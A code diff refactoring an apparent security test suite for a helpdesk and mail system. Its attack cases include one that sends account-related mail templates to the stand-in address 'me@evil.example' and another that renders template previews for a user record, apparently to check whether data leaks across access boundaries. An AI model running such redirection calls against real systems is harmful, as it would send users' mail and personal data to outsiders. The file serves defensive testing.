@@ -1,6 +1,6 @@
 """The routes of mail and discuss, and what the chatter says."""
 
-from .suite import EVERYBODY, INTERNAL, Attack
+from .suite import EVERYBODY, INTERNAL, Attack, each
 
 TICKET = "helpdesk.ticket"
 REQUESTS = (
@@ -193,11 +193,15 @@ def _rendered(words):
 def _template(s, w):
     """A letter to a customer, sent to the attacker instead."""
     templates = s.call("mail.template", "search", None, [("model", "=", "res.users")])
-    for template in templates:
-        s.call(
-            "mail.template", "send_mail", [template], w.user,
-            email_values={"email_to": "me@evil.example", "recipient_ids": []},
-        )  # fmt: skip
+    values = {"email_to": "me@evil.example", "recipient_ids": []}
+    each(
+        *(
+            lambda t=t: s.call(
+                "mail.template", "send_mail", [t], w.user, email_values=values
+            )
+            for t in templates
+        )
+    )
 
 
 def _own_template(s, w):
@@ -213,15 +217,19 @@ def _own_template(s, w):
 
 
 def _preview(s, w):
-    for template in s.call(
-        "mail.template", "search", None, [("model", "=", "res.users")]
-    ):
-        values = {"mail_template_id": template, "resource_ref": f"res.users,{w.user}"}
-        spec = {
-            name: {}
-            for name in ("body_html", "email_to", "subject", "email_from", "reply_to")
-        } | {"partner_ids": {"fields": {"display_name": {}}}}
-        s.call("mail.template.preview", "web_save", [], values, spec)
+    domain = [("model", "=", "res.users")]
+    spec = dict.fromkeys(("body_html", "email_to", "subject", "email_from"), {})
+    spec |= {"partner_ids": {"fields": {"display_name": {}}}}
+    reference = f"res.users,{w.user}"
+    each(
+        *(
+            lambda t=t: s.call(
+                "mail.template.preview", "web_save", [],
+                {"mail_template_id": t, "resource_ref": reference}, spec,
+            )
+            for t in s.call("mail.template", "search", None, domain)
+        )
+    )  # fmt: skip
 
 
 def _with_source(source):
